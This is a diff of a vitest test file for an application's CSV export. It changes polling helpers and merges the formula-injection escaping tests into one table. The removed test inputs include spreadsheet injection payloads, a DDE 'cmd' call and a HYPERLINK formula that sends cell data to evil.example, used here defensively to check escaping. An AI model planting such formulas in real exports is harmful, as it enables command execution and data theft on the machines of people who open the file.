@@ -3,7 +3,7 @@ import { get, type IncomingMessage } from 'node:http'
 import { buffer } from 'node:stream/consumers'
 import { setImmediate as turn, setTimeout as wait } from 'node:timers/promises'
 import fc from 'fast-check'
-import { afterAll, afterEach, beforeAll, expect, test } from 'vitest'
+import { afterAll, afterEach, beforeAll, expect, test, vi } from 'vitest'
 import { listAcademyAudit } from '../../../api/contract/audit.ts'
 import { trainingCsvPath } from '../../../api/contract/training-report.ts'
 import { type CsvTable, csvExports, type ExportCsv } from '../../../api/database/csv-export.ts'
@@ -12,7 +12,6 @@ import { type CsvCell, csvLine } from '../../../content/admin/csv-line.ts'
 import { createTestDatabase } from '../../database.ts'
 import { propertyRuns } from '../../property-runs.ts'
 import { TcpProxy } from '../../tcp-proxy.ts'
-import { until } from '../../until.ts'
 import { readCsv } from '../read-csv.ts'
 import { createTestApp, type TestApp, type Visitor } from '../test-app.ts'
 
@@ -86,7 +85,7 @@ const connections = async () => {
   )
   return rows.map(({ pid }) => pid)
 }
-const allFree = () => until('the connections to end', async () => (await connections()).length === 0)
+const allFree = () => expect.poll(connections).toEqual([])
 const errors = () => app.lines.filter(line => JSON.parse(line).level >= 50)
 
 test('rows are written with their column titles, in order, and read back unchanged', async () => {
@@ -109,29 +108,20 @@ const row = (...cells: CsvCell[]) => readCsv(csvLine(cells))[0] ?? []
 const cell = (value: string) => row(value)[0]
 
 test.each([
-  '=1+1',
-  '+49 30 1234',
-  '-2',
-  '@x',
-  '\ttab',
-  '\rreturn',
-  '\nline',
-  '  =1+1',
-  '\u00a0=1+1',
-  '＝1+1',
-  '＠SUM(1)',
-  `=cmd|' /C calc'!A0`,
-  '=HYPERLINK("http://evil.example?"&A1,"x")',
-])('%j is written as text', value => {
-  expect(cell(value)).toBe(`'${value}`)
-})
-
-test.each([
+  ['=1+1', "'=1+1"],
+  ['+49 30 1234', "'+49 30 1234"],
+  ['@x', "'@x"],
+  ['\ttab', "'\ttab"],
+  ['\rreturn', "'\rreturn"],
+  ['  =1+1', "'  =1+1"],
+  ['\u00a0=1+1', "'\u00a0=1+1"],
+  ['＠SUM(1)', "'＠SUM(1)"],
+  // For programs with another cell separator.
   ['\t=1+1', `'\t'=1+1`],
   ['Ada;=1+1', `'Ada;'=1+1`],
   ['Ada\n\t-1', `'Ada\n'\t'-1`],
   ['Ada\r@x', `'Ada\r'@x`],
-])('%j is written as text for programs with another cell separator', (value, written) => {
+])('%j is written as text', (value, written) => {
   expect(cell(value)).toBe(written)
 })
 
@@ -205,7 +195,7 @@ test.each(['ends the connection', 'cannot be reached any more'])(
     proxy.limitResponses(beginning)
     const response = await begin()
     if (how === 'ends the connection') {
-      const pid = await until('the cursor to wait', async () => (await connections())[0])
+      const pid = await vi.waitUntil(async () => (await connections())[0], { timeout: 60_000 })
       await app.client.query('select pg_terminate_backend($1)', [pid])
     } else await proxy.change('refuse')
     proxy.release()
